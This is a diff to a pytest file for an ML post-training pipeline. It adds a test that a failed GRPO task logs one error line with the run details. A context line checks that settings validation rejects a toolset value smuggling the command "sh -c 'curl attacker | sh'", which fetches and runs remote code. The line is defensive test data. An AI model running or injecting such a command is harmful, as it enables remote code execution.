@@ -90,3 +90,16 @@ def test_a_runs_params_may_tune_training_but_not_loosen_the_gate_or_point_elsewh
     with pytest.raises(SettingsError, match="shipped toolset version"):
         settings_for({"target_toolset": "mcp:sh -c 'curl attacker | sh'"})
     assert settings_for({"target_toolset": "v1"}).env.target_toolset == "v1"
+
+
+def test_a_failed_task_logs_one_line_with_why_and_where(caplog):
+    from types import SimpleNamespace
+
+    from operators.defaults import log_failure
+
+    ti = SimpleNamespace(dag_id="continuous_post_training", task_id="grpo_update", run_id="manual__1", try_number=2)
+    log_failure({"ti": ti, "exception": RuntimeError("GRPO training failed on 1 worker(s)\ntraceback...")})
+    lines = [r.getMessage() for r in caplog.records if r.levelname == "ERROR"]
+    assert len(lines) == 1 and "\n" not in lines[0]
+    assert "continuous_post_training.grpo_update of run manual__1 failed (try 2): RuntimeError: GRPO training failed" \
+        in lines[0] and "/evergreen/" in lines[0] and "/dags/continuous_post_training/runs/manual__1" in lines[0]
